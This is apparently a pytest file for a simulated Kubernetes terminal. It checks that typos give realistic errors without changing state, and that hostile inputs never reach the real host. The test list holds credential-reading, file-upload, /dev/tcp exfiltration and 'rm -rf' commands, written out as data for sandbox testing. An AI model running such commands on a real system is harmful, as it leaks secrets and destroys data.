"""What is typed wrongly gets the real program's words and status, and the cluster stays as it was."""

from __future__ import annotations

import builtins
import copy
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kubesim.cluster import Cluster
from kubesim.data_directory import DATA
from kubesim.terminal import Terminal

REFUSED = [
    # kubectl: verbs, flags, kinds, names
    ("kubectl gte pods", 'error: unknown command "gte" for "kubectl"\n\nDid you mean this?\n\tget\n', 1),
    ("kubectl get pods --outptu wide", "error: unknown flag: --outptu\nSee 'kubectl get --help' for usage.\n", 1),
    ("kubectl get pods -x", "error: unknown shorthand flag: 'x' in -x\nSee 'kubectl get --help' for usage.\n", 1),
    ("kubectl get podz", 'error: the server doesn\'t have a resource type "podz"\n', 1),
    ("kubectl get pod nosuch", 'Error from server (NotFound): pods "nosuch" not found\n', 1),
    ("kubectl get pod -o yamll", 'error: unable to match a printer suitable for the output format "yamll"', 1),
    ("kubectl get pod -o jsonpath='{.items[0'", "error: error parsing jsonpath {.items[0, unterminated array\n", 1),
    ("kubectl get pod -l 'a in b'", "unable to parse requirement: ", 1),
    ("kubectl describe svc nosuch", 'Error from server (NotFound): services "nosuch" not found\n', 1),
    ("kubectl run web", 'error: required flag(s) "image" not set\n', 1),
    ("kubectl run mynginx --image nginx", 'Error from server (AlreadyExists): pods "mynginx" already exists\n', 1),
    ("kubectl run My_Nginx --image nginx", 'The Pod "My_Nginx" is invalid: ', 1),
    ("kubectl delete pod nosuch", 'Error from server (NotFound): pods "nosuch" not found\n', 1),
    ("kubectl exec nosuch -- ls", 'Error from server (NotFound): pods "nosuch" not found\n', 1),
    ("kubectl exec mynginx -- nosuch", 'exec: "nosuch": executable file not found in $PATH', 1),
    ("kubectl logs nosuch", 'error: error from server (NotFound): pods "nosuch" not found in namespace "default"\n', 1),
    ("kubectl logs mynginx -c nosuch", "container nosuch is not valid for pod mynginx", 1),
    ("kubectl scale deployment nosuch --replicas 3", 'deployments.apps "nosuch" not found\n', 1),
    ("kubectl scale deployment web --replicas=-1", "error: ", 1),
    ("kubectl expose pod mynginx", "error: couldn't find port via --port flag or introspection\n", 1),
    ("kubectl expose pod nosuch --port 80", 'Error from server (NotFound): pods "nosuch" not found\n', 1),
    ("kubectl label pod mynginx 'a b=c'", 'The Pod "mynginx" is invalid: metadata.labels: Invalid value: "a b": ', 1),
    ("kubectl label pod mynginx run=other", "'run' already has a value (mynginx), and --overwrite is false", 1),
    ("kubectl rollout restart deployment nosuch", 'deployments.apps "nosuch" not found\n', 1),
    ("kubectl set image deployment/web nosuch=nginx", 'error: unable to find container named "nosuch"\n', 1),
    ("""kubectl patch svc taken -p '{"spec":'""", "Error from server (BadRequest): unexpected EOF\n", 1),
    ("""kubectl patch svc taken -p '{"spec":{"type":"Nodeport"}}'""", 'Unsupported value: "Nodeport"', 1),
    ("kubectl wait --for=condition=Ready pod/nosuch --timeout 1s", 'pods "nosuch" not found\n', 1),
    # manifests
    ("kubectl apply", "error: must specify one of -f and -k\n", 1),
    ("kubectl apply -f nosuch.yaml", 'error: the path "nosuch.yaml" does not exist\n', 1),
    ("kubectl apply -f /etc/hostname", "error: ", 1),
    (
        r"printf 'apiVersion: v1\nkind: Service\n  metadata: x\n' | kubectl apply -f -",
        "error converting YAML to JSON: yaml: line 3: mapping values are not allowed in this context\n",
        1,
    ),
    ("sed 's/port: 8080/prot: 8080/' myservice.yaml | kubectl apply -f -", 'unknown field "spec.ports[0].prot"\n', 1),
    (
        "sed 's/Service/Servise/' myservice.yaml | kubectl apply -f -",
        'no matches for kind "Servise" in version "v1"\nensure CRDs are installed first\n',
        1,
    ),
    ("sed 's/: v1/: v2/' myservice.yaml | kubectl apply -f -", 'no matches for kind "Service" in version "v2"\n', 1),
    (
        "head -12 node-port.yaml | sed 's/30080/80/' | kubectl apply -f -",
        'The Service "node-port" is invalid: spec.ports[0].nodePort: Invalid value: 80: provided port is not in the '
        "valid range. The range of valid ports is 30000-32767\n",
        1,
    ),
    (
        "head -12 node-port.yaml | sed 's/30080/30099/' | kubectl apply -f -",
        'The Service "node-port" is invalid: spec.ports[0].nodePort: Invalid value: 30099: provided port is already '
        "allocated\n",
        1,
    ),
    ("kubectl apply -f cluster-ip.book.yaml", "resource name may not be empty\n", 1),
    # other programs
    ("kubectll get pods", "bash: kubectll: command not found\n", 127),
    ("curl", "curl: try 'curl --help' or 'curl --manual' for more information\n", 2),
    ("curl --nosuch x", "curl: option --nosuch: is unknown\n", 2),
    ("curl -sS http://", "curl: (3) URL rejected: No host part in the URL\n", 3),
    ("curl -sS ftpp://x", 'curl: (1) Protocol "ftpp" not supported', 1),
    ("curl -sS nosuch.example", "curl: (6) Could not resolve host: nosuch.example\n", 6),
    ("curl -sS localhost:1", "curl: (7) Failed to connect to localhost port 1 ", 7),
    ("getent hosts nosuch", "", 2),
    ("grep", "Usage: grep [OPTION]... PATTERNS [FILE]...", 2),
    ("grep '[' myservice.yaml", "grep: Invalid regular expression\n", 2),
    ("cat nosuch", "cat: nosuch: No such file or directory\n", 1),
    ("sed 's/a/' myservice.yaml", "sed: -e expression #1, char 4: unterminated `s' command\n", 1),
    # the shell
    ("cat < nosuch", "bash: nosuch: No such file or directory\n", 1),
    ("echo hi > /nosuch/x", "bash: /nosuch/x: No such file or directory\n", 1),
    ("cd nosuch", "bash: cd: nosuch: No such file or directory\n", 1),
    ('echo "unclosed', "bash: unexpected EOF while looking for matching `\"'\n", 2),
    ("fi", "bash: syntax error near unexpected token `fi'\n", 2),
    ("if true", "bash: syntax error: unexpected end of file\n", 2),
    ("kill %1", "bash: kill: %1: no such job\n", 1),
    ("rm -rf /", "rm: it is dangerous to operate recursively on '/'\n", 1),
    ("python3 -c 'print(1)'", "bash: python3: command not found\n", 127),
]
HARMLESS = [
    "cat /etc/passwd",
    "cat /proc/version /proc/self/environ /root/.bashrc ~/.ssh/id_rsa",
    "ls -la / /work /home ..",
    "echo owned > /tmp/kubesim-proof; cat /tmp/kubesim-proof",
    "echo owned > ../../../../../../tmp/kubesim-proof",
    "cp /etc/passwd /tmp/copy; mv /tmp/copy /root/copy; rm /root/copy",
    "find / -name '*.py'",
    "env; printenv HOME; echo $PYTHONPATH $VIRTUAL_ENV",
    "exec /bin/sh -c 'id; hostname; uname -a'",
    "kill -9 1; kill -9 -1; kill $$",
    "rm -rf /* ~ .",
    "kubectl apply -f /etc/passwd",
    "kubectl apply -f https://example.com/x.yaml",
    "kubectl apply -k /",
    "kubectl get pod -o jsonpath-file=/etc/passwd",
    "kubectl get pod -o go-template-file=/etc/passwd",
    "kubectl --kubeconfig /etc/passwd get pod",
    "kubectl cp /etc/passwd mynginx:/tmp/x",
    "kubectl create configmap a --from-file=/etc/passwd",
    "curl -s file:///etc/passwd; curl -s -o /tmp/kubesim-proof 10.43.0.1; curl -T /etc/passwd 10.43.0.1",
    "wget -q -O /tmp/kubesim-proof http://example.com",
    ". /etc/profile; source ~/.bashrc; eval 'cat /etc/passwd'",
    "cat < /etc/passwd > /dev/tcp/10.0.0.1/80",
]


@pytest.fixture(scope="module")
def terminal() -> Terminal:
    terminal = Terminal(Cluster())
    terminal.prepare(
        "kubectl run mynginx --image nginx",
        "kubectl create deployment web --image nginx",
        "kubectl create service nodeport taken --tcp 80 --node-port 30099",
    )
    terminal.cluster.advance(30)
    return terminal


@pytest.mark.parametrize(("typed", "words", "status"), REFUSED)
def test_a_typo_changes_nothing(terminal: Terminal, typed: str, words: str, status: int) -> None:
    store = terminal.cluster.store
    before, version = copy.deepcopy(store.snapshot()), store.resource_version
    done = terminal.run(typed)
    assert words in done.stderr
    assert done.stdout == ""
    assert done.returncode == status
    assert (store.snapshot(), store.resource_version) == (before, version)


class HostTouchedError(AssertionError):
    """A simulated program reached for the real machine."""


@pytest.fixture
def guarded_host(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Files open only under ``data/`` and, for Python's own imports, under the interpreter; nothing is started."""
    allowed = tuple(str(Path(each).resolve()) for each in (DATA, sys.prefix, sys.base_prefix, DATA.parent / "kubesim"))
    really_open = io.open

    def open_(file: Any, mode: str = "r", *rest: Any, **options: Any) -> Any:
        if isinstance(file, int):
            return really_open(file, mode, *rest, **options)
        if not str(Path(file).resolve()).startswith(allowed) or set(mode) & set("wax+"):
            raise HostTouchedError(f"open({str(file)!r}, {mode!r})")
        return really_open(file, mode, *rest, **options)

    def refuse(*given: Any, **options: Any) -> Any:
        raise HostTouchedError(f"the host was called with {given}")

    monkeypatch.setattr(builtins, "open", open_)
    monkeypatch.setattr(io, "open", open_)
    for name in ("run", "Popen", "call", "check_call", "check_output"):
        monkeypatch.setattr(subprocess, name, refuse)
    for name in ("system", "popen", "kill", "killpg", "remove", "unlink", "rmdir", "rename", "mkdir", "chmod", "fork"):
        monkeypatch.setattr(os, name, refuse)
    for name in ("execv", "execve", "execvp", "execvpe", "posix_spawn", "chdir", "symlink", "link", "truncate"):
        monkeypatch.setattr(os, name, refuse)
    yield
    monkeypatch.undo()


@pytest.mark.parametrize("typed", HARMLESS)
def test_nothing_typed_reaches_the_host(guarded_host: None, typed: str) -> None:
    terminal = Terminal(Cluster())
    shown = terminal.screen(typed)
    assert not Path("/tmp/kubesim-proof").exists()
    assert "python" not in shown.lower()
    assert terminal.cluster.get("Node", "master").metadata.name == "master"
